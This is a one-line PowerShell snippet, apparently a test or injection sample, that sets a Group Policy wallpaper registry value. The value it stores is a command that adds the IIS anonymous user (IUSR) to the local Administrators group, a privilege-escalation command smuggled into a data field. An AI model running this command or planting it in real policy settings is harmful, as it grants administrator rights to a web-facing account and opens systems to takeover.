Set-GPRegistryValue -Name Servers -Key 'HKCU\Control Panel\Desktop' -ValueName Wallpaper -Type String -Value 'net localgroup Administrators IUSR /add'
